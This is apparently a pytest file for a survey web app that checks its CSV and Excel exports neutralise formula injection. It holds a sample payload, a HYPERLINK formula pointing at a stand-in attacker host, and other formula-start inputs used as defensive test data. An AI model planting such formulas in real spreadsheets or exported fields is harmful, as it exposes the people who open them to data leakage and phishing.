"""Every download is data, never formulas (OWASP CSV injection), through one writer."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.extensions import db
from app.models import Survey, Unit
from app.services import exports, survey_definition
from app.services import surveys as service
from tests.conftest import VI_THANH
from tests.test_surveys import IDENTIFIED, NOW, load_content, set_clock

EVIL = '=HYPERLINK("http://evil.example/?x","win")'


@pytest.mark.parametrize("value", [EVIL, "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_the_writer_neutralises_every_formula_start(value):
    text = exports.csv_bytes([[value, 5, -3, None]]).decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(text))) == ["'" + value, "5", "-3", ""]
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes([[value, 5, -3]], "t"))).active
    first, number, negative = next(sheet.iter_rows())
    assert first.data_type == "s"  # text, not a formula
    assert first.value.replace("\n", "\r") == value.replace("\n", "\r")  # XML folds CR
    assert (number.value, negative.value) == (5, -3)  # numbers stay numbers


def test_a_free_text_answer_is_data_in_the_raw_export(app, client, auth, make_user):
    set_clock(app, NOW)
    load_content(app, [("id.yaml", IDENTIFIED)], NOW)
    people = [make_user(phone=f"098765430{i}") for i in range(3)]
    with app.app_context():
        survey = db.session.scalar(select(Survey).where(Survey.slug == "kenh-thong-tin"))
        defn = survey_definition.definition(db.session, survey)
        for person in people:
            answers, problems = service.clean_answers(
                defn, {"hop": 1, "phat-bieu": 2, "ly-do": EVIL, "kenh": [1]}
            )
            assert not problems
            service.submit(
                db.session,
                defn,
                answers,
                NOW,
                user=db.session.merge(person),
                unit=db.session.get(Unit, VI_THANH),
            )
    make_user(role="officer", phone="0911111111")
    auth.login("0911111111")
    data = client.get("/results/kenh-thong-tin/responses.csv")
    assert data.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(data.get_data(as_text=True))) for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
    book = load_workbook(io.BytesIO(client.get("/results/kenh-thong-tin/responses.xlsx").data))
    found = [c for row in book.active.iter_rows() for c in row if c.value == EVIL]
    assert found and all(c.data_type == "s" for c in found)
